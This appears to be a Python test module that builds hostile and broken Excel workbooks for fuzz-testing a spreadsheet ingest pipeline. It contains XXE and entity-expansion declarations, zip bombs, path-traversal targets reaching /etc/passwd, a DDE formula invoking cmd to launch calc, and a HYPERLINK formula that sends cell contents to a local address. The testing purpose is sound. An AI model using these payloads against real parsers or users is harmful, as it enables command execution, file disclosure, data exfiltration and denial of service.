"""Hostile and broken xlsx files."""

import io
import zipfile

from tests.ingest.corpus.tools import (
    ANY,
    DAMAGED,
    EMPTY,
    ENTITIES,
    FAR,
    GOOD,
    INFLATED,
    LAUGHS,
    LONG,
    MEMORY,
    TALL,
    WIDE,
    XXE,
    add,
    cut,
    flipped,
    overlapping,
)
from tests.ingest.making import repacked
from tests.ingest.spreadsheets import archive

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LONG_TEXT = f'<sst xmlns="{MAIN}"><si><t>%s</t></si>{"<si><t/></si>" * 9}'.encode()
SHEET, STRINGS = "xl__worksheets__sheet1.xml", "xl__sharedStrings.xml"


def part(name):
    with zipfile.ZipFile(io.BytesIO(GOOD)) as book:
        return book.read(name.replace("__", "/"))


def sheet(rows, before="", after=""):
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}">{before}'
        f"<sheetData>{rows}</sheetData>{after}</worksheet>"
    ).encode()


def with_rows(rows, **parts):
    return lambda: repacked(GOOD, **{SHEET: sheet(rows), **parts})


def with_part(name, content):
    return lambda: repacked(GOOD, **{name: content() if callable(content) else content})


def declared(name, doctype):
    """Return a workbook one of whose parts defines entities."""
    return lambda: repacked(GOOD, **{name: part(name).replace(b"?>", b"?>" + doctype.encode(), 1)})


def cell(content, place="A2", kind=' t="inlineStr"'):
    first = '<row r="1"><c r="A1"><v>1</v></c></row>'
    return f'{first}<row r="2"><c r="{place}"{kind}>{content}</c></row>'


def renamed(old, new):
    return lambda: repacked(
        GOOD, **{"xl__workbook.xml": part("xl__workbook.xml").replace(old, new)}
    )


def linked(target):
    links = part("xl___rels__workbook.xml.rels").replace(b"worksheets/sheet1.xml", target)
    return lambda: repacked(GOOD, **{"xl___rels__workbook.xml.rels": links})


def part_files():
    """Add workbooks whose parts are not what they seem."""
    for name, kind, codes in (
        ("workbook", "xl__workbook.xml", (ENTITIES,)),
        ("links", "xl___rels__workbook.xml.rels", (ENTITIES,)),
        ("styles", "xl__styles.xml", (ENTITIES,)),
        ("sheet", SHEET, (ENTITIES,)),
        ("strings", STRINGS, (ENTITIES,)),
        ("types", "[Content_Types].xml", (ENTITIES,)),
        ("core", "docProps__core.xml", ()),  # never opened
    ):
        add(f"xxe in {name}.xlsx", declared(kind, XXE), *codes)
        if kind in (SHEET, STRINGS):
            add(f"laughs in {name}.xlsx", declared(kind, LAUGHS), *codes)
    zeros = b"\0" * (60 * 2**20)
    spaces = b"<sst>" + b" " * (60 * 2**20)
    add("bomb in sheet.xlsx", with_part(SHEET, lambda: sheet(" " * 60 * 2**20)), INFLATED)
    add("bomb in styles.xlsx", with_part("xl__styles.xml", spaces), INFLATED)
    add("bomb in media.xlsx", with_part("xl__media__a.bin", zeros), INFLATED)
    add(
        "bombs below the limit.xlsx",
        lambda: repacked(GOOD, **{f"xl__media__{i}.xml": zeros[: 9 * 2**20] for i in range(40)}),
        INFLATED,
    )
    add("overlapping.xlsx", overlapping, DAMAGED)
    add(
        "packed as lzma.xlsx",
        lambda: archive({"xl/workbook.xml": b"<a/>" * 99}, zipfile.ZIP_LZMA),
        DAMAGED,
    )


def cell_files():
    """Add workbooks whose cells are."""
    add("long inline.xlsx", with_rows(cell(f"<is><t>{'x' * 10**7}</t></is>")), LONG)
    add(
        "long shared.xlsx",
        with_part(
            STRINGS,
            lambda: b"".join((LONG_TEXT % (b"x" * 10**7), b"</sst>")),
        ),
        LONG,
    )
    add("blank rows.xlsx", with_rows("".join(f'<row r="{i}"/>' for i in range(1, 300_000))), EMPTY)
    add(
        "blank cells.xlsx",
        with_rows("".join(f'<row r="{i}"><c r="A{i}" s="0"/></row>' for i in range(1, 100_000))),
        EMPTY,
    )
    add("20000 columns.xlsx", with_rows("<row>" + "<c><v>1</v></c>" * 20_000 + "</row>"), WIDE, FAR)
    for name, place, codes in (
        ("zero", "A0", ANY),
        ("letters", "AAAAAAA1", ANY),
        ("none", "", ANY),
        ("garbage", "?", ANY),
        ("far down", "A1048576", (None, MEMORY)),
        ("too far down", "A4294967297", ANY),
        ("swapped", "1A", ANY),
    ):
        add(
            f"place {name}.xlsx",
            with_rows(cell("<v>1</v>", place, "")),
            *([codes] if codes is ANY else codes),
        )
    for name, number in (
        ("zero", "0"),
        ("negative", "-1"),
        ("letters", "x"),
        ("huge", "9999999"),
        ("beyond", "99999999999"),
    ):
        add(
            f"row {name}.xlsx",
            with_rows(f'<row r="1"><c><v>1</v></c></row><row r="{number}"><c><v>1</v></c></row>'),
            frozenset({None, DAMAGED, TALL, MEMORY, EMPTY}),
        )
    add("rows twice.xlsx", with_rows('<row r="2"><c r="A2"><v>1</v></c></row>' * 9))
    add(
        "rows downwards.xlsx",
        with_rows(
            "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(90, 0, -1))
        ),
    )
    for name, index in (
        ("negative", "-1"),
        ("huge", "4294967296"),
        ("word", "x"),
        ("beyond", "77"),
    ):
        add(
            f"text {name}.xlsx",
            with_rows(cell(f"<v>{index}</v>", kind=' t="s"')),
            frozenset({None, DAMAGED}),
        )
    for name, kind, value in (
        ("style", ' s="4294967295"', "1"),
        ("flag", ' t="b"', "7"),
        ("error", ' t="e"', "#WHAT!"),
        ("date", ' t="d"', "not a day"),
        ("kind", ' t="zz"', "1"),
        ("infinite", "", "1e999"),
        ("nan", "", "NaN"),
        ("empty", "", ""),
    ):
        add(
            f"odd {name}.xlsx",
            with_rows(cell(f"<v>{value}</v>", kind=kind)),
            frozenset({None, DAMAGED}),
        )


def broken_files():
    """Add workbooks that mislead, and broken ones."""
    add(
        "giant dimension.xlsx",
        with_part(SHEET, sheet(cell("<v>1</v>", kind=""), '<dimension ref="A1:XFD1048576"/>')),
    )
    add(
        "giant merge.xlsx",
        with_part(
            SHEET,
            sheet(
                cell("<v>1</v>", kind=""),
                "",
                '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
            ),
        ),
    )
    add("dde.xlsx", with_rows(cell("<f>cmd|'/C calc'!A0</f><v>1</v>", kind="")))
    add(
        "formulas.xlsx",
        with_rows(
            cell('<f>HYPERLINK("http://127.0.0.1:9/?"&amp;A1,"x")</f><v>x</v>', kind=' t="str"')
        ),
    )
    add(
        "external links.xlsx",
        with_part(
            "xl__externalLinks__externalLink1.xml",
            f'<externalLink xmlns="{MAIN}"><a r="{OFFICE}/path"/></externalLink>'.encode(),
        ),
    )
    add("macros.xlsm", with_part("xl__vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(99)))
    for name, target in (
        ("outside", b"../../../../etc/passwd"),
        ("absolute", b"/etc/passwd"),
        ("address", b"http://127.0.0.1:9/a.xml"),
        ("itself", b"workbook.xml"),
        ("nothing", b""),
    ):
        add(f"sheet {name}.xlsx", linked(target), frozenset({DAMAGED, EMPTY}))
    add("sheet name path.xlsx", renamed(b'name="Orders"', b'name="../../etc/passwd"'))
    add("sheet name controls.xlsx", renamed(b'name="Orders"', b'name="a&#x202e;b&#10;c"'))
    add(
        "50 sheets.xlsx",
        renamed(
            b"<sheets>",
            b"<sheets>"
            + b"".join(
                b'<sheet name="S%d" sheetId="%d" r:id="rId1"/>' % (i, i + 9) for i in range(50)
            ),
        ),
    )
    add("parts twice.xlsx", _twice, frozenset({None, DAMAGED, EMPTY}))
    add(
        "backslashes.xlsx",
        lambda: GOOD.replace(b"xl/worksheets/sheet1.xml", b"xl\\worksheets\\sheet1.xml"),
        frozenset({None, DAMAGED}),
    )
    add(
        "encoding that lies.xlsx",
        with_part(SHEET, sheet(cell("<v>1</v>", kind="")).replace(b"UTF-8", b"GB2312")),
        frozenset({None, DAMAGED}),
    )
    add("nul in text.xlsx", with_rows(cell("<is><t>a_x0000_b</t></is>")))
    for i, share in enumerate((0.02, 0.25, 0.6, 0.95, 0.999)):
        add(f"cut {i}.xlsx", cut(GOOD, share), ANY)
    for seed in range(4):
        add(f"flipped {seed}.xlsx", flipped(GOOD, seed), ANY | {ENTITIES, FAR})


def _twice():
    target = io.BytesIO(GOOD)
    with zipfile.ZipFile(target, "a") as out:
        out.fp.seek(0, 2)
        out.NameToInfo.clear()
        out.writestr("xl/worksheets/sheet1.xml", sheet(""))
    return target.getvalue()
